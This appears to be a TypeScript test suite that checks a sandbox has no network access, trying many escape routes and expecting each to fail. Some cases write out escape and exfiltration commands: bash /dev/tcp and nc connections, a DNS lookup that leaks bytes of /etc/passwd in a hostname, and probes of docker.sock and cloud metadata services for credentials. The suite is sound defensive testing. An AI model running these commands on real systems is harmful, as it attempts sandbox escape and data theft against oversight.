import type { Case } from '../case.ts';
import { python, shellCase, tryIn, type SandboxPlace } from '../places/sandbox-place.ts';

const connect = (what: string, family: string, address: string) =>
  tryIn(what, `s = socket.socket(${family}); s.settimeout(2); s.connect(${address}); print(s.recv(200))`);

const unreachable = 'E(?:CONNREFUSED|NETUNREACH|HOSTUNREACH|ACCES|PERM|NOENT|ADDRNOTAVAIL|AFNOSUPPORT|INVAL|NODEV)';
const allUnreachable = new RegExp(`^exited 0\\n(?:.* ${unreachable}\\n)+$`, 'u');

const ownServer = (more: string) =>
  python(`
import socket, threading
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
threading.Thread(target=lambda: s.accept()[0].sendall(b"own"), daemon=True).start()
${more}
c = socket.create_connection(s.getsockname()); print(c.recv(9).decode())
`);
const twin = { does: 'talk to a server of its own', command: ownServer(''), answer: /^exited 0\nown\n$/u };

/** A sandbox without rules has no network: every way out is tried by itself. */
export const noNetworkCases: Case<SandboxPlace>[] = [
  shellCase({
    id: 'tcp-loopback',
    tries: 'reach services on the host’s loopback, IPv4 and IPv6, in odd spellings',
    command: ({ canaries: { tcp4, tcp6 } }) =>
      python(`
import socket
${['127.0.0.1', 'localhost', '0.0.0.0', '127.1', '2130706433', '0x7f000001', '127.0.0.2'].map((host) => connect(host, 'socket.AF_INET', `("${host}", ${tcp4})`)).join('\n')}
${['::1', '::ffff:127.0.0.1', '::'].map((host) => connect(host, 'socket.AF_INET6', `("${host}", ${host === '::1' || host === '::' ? (tcp6 ?? tcp4) : tcp4})`)).join('\n')}`),
    answer: allUnreachable,
    twin,
  }),
  shellCase({
    id: 'tcp-outward',
    tries: 'reach this machine’s own address and the world by TCP',
    command: ({ canaries: { outward } }) =>
      python(`
import socket
${outward === null ? '' : connect('machine', 'socket.AF_INET', `("${outward.address}", ${outward.port})`)}
${['1.1.1.1', '8.8.8.8', '93.184.216.34'].map((host) => connect(host, 'socket.AF_INET', `("${host}", 443)`)).join('\n')}
${connect('IPv6', 'socket.AF_INET6', '("2606:4700:4700::1111", 443)')}`),
    answer: allUnreachable,
    twin,
  }),
  shellCase({
    id: 'shell-tcp',
    tries: 'reach them with bash, curl, git, npm and nc',
    command: ({ canaries: { tcp4 } }) =>
      `exec 3<>/dev/tcp/127.0.0.1/${tcp4} && cat <&3; curl -sS -m 2 http://127.0.0.1:${tcp4}/; git ls-remote http://127.0.0.1:${tcp4}/x.git; git ls-remote git://127.0.0.1:${tcp4}/x; npm view x --registry http://127.0.0.1:${tcp4} --fetch-retries 0 2>&1 | tail -1; nc -w 1 127.0.0.1 ${tcp4} </dev/null; echo end`,
    answer: /refused[^]*\nend\n$/u,
    twin,
  }),
  shellCase({
    id: 'udp',
    tries: 'send datagrams out: UDP, DNS, broadcast',
    command: ({ canaries: { udp } }) =>
      python(`
import socket
def send(what, host, port, family=socket.AF_INET):
  s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
  try:
    s.connect((host, port)); s.send(b"canary"); s.recv(9); print(what, "went well")
  except OSError as e:
    import errno; print(what, errno.errorcode.get(e.errno, "ECONNREFUSED"))
send("loopback", "127.0.0.1", ${udp}); send("resolver", "127.0.0.53", 53); send("DNS", "8.8.8.8", 53); send("broadcast", "255.255.255.255", 9); send("IPv6", "ff02::1", 9, socket.AF_INET6)`),
    answer: allUnreachable,
    twin: {
      does: 'send itself a datagram',
      command: python(
        'import socket\na = socket.socket(type=socket.SOCK_DGRAM); a.bind(("127.0.0.1", 0))\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b"own", a.getsockname()); print(a.recv(9).decode())',
      ),
      answer: /^exited 0\nown\n$/u,
    },
  }),
  shellCase({
    id: 'dns',
    tries: 'carry data out in names to look up',
    command:
      'getent hosts "$(head -c 8 /etc/passwd | tr : -).example.com" || echo unknown; python3 -c "import socket; socket.gethostbyname(\'example.com\')" 2>&1 | tail -1; cat /etc/resolv.conf 2>&1; echo end',
    answer: /unknown\n[^]*(?:gaierror|resolution)[^]*\nend\n$/u,
    twin: {
      does: 'look up localhost',
      command: 'getent hosts localhost | head -1 | tr -s " " | cut -d" " -f2',
      answer: /^exited 0\nlocalhost\n$/u,
    },
  }),
  shellCase({
    id: 'unix-sockets',
    tries: 'reach sockets of the host in the file system and abstract ones',
    command: ({ canaries: { unixPath, abstractName } }) =>
      python(`
import socket
${connect('path', 'socket.AF_UNIX', JSON.stringify(unixPath))}
${connect('abstract', 'socket.AF_UNIX', `"\\0${abstractName}"`)}
${['/var/run/docker.sock', '/run/podman/podman.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0'].map((path) => connect(path, 'socket.AF_UNIX', `"${path}"`)).join('\n')}`),
    answer: allUnreachable,
    twin: {
      does: 'use sockets of its own',
      command: python(
        'import socket\na, b = socket.socketpair(); a.send(b"own"); print(b.recv(9).decode())\ns = socket.socket(socket.AF_UNIX); s.bind("/tmp/s"); s.listen(); socket.socket(socket.AF_UNIX).connect("/tmp/s"); print("path")',
      ),
      answer: /^exited 0\nown\npath\n$/u,
    },
  }),
  shellCase({
    id: 'metadata',
    tries: 'ask a cloud’s metadata service for credentials',
    command: python(`
import socket
${['169.254.169.254', '169.254.170.2', '100.100.100.200', '192.0.0.192'].map((host) => connect(host, 'socket.AF_INET', `("${host}", 80)`)).join('\n')}
${connect('IPv6', 'socket.AF_INET6', '("fd00:ec2::254", 80)')}`),
    answer: allUnreachable,
    twin,
  }),
  shellCase({
    id: 'raw-sockets',
    tries: 'use socket families that namespaces do not cover, and raw ones',
    command: python(`
import socket
for what, family, kind, proto in (("vsock", 40, 1, 0), ("packet", 17, 3, 0), ("raw", 2, 3, 1), ("raw6", 10, 3, 58), ("alg", 38, 5, 0), ("bluetooth", 31, 3, 0), ("can", 29, 3, 1), ("tipc", 30, 1, 0), ("rds", 21, 5, 0), ("kcm", 41, 5, 0), ("xdp", 44, 3, 0)):
  try: socket.socket(family, kind, proto); print(what, "went well")
  except OSError as e: print(what, "E" + e.strerror[:1])
`),
    answer: /^exited 0\n(?:\w+ E\w\n)+$/u,
    twin,
  }),
  shellCase({
    id: 'interfaces',
    perilous: true,
    tries: 'make an interface, an address, a route, a tunnel',
    command:
      'ip link add d type dummy; ip addr add 10.9.9.9/8 dev lo; ip route add default dev lo; ip tuntap add t mode tun; ip link set lo mtu 9; ls /sys/class/net 2>/dev/null; cat /proc/net/dev | grep -c :; echo end',
    answer: /\n1\nend\n$/u,
    twin: { does: 'see its own loopback', command: 'grep -c "lo:" /proc/net/dev', answer: /^exited 0\n1\n$/u },
  }),
  shellCase({
    id: 'proxy-variables',
    tries: 'use whatever proxy the host has',
    command:
      'env | grep -i proxy; for p in 3128 8080 8118 1080; do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>&1 | grep -vc refused; done | sort -u; echo end',
    answer: /^exited 0\n0\nend\n$/u,
    twin,
  }),
];
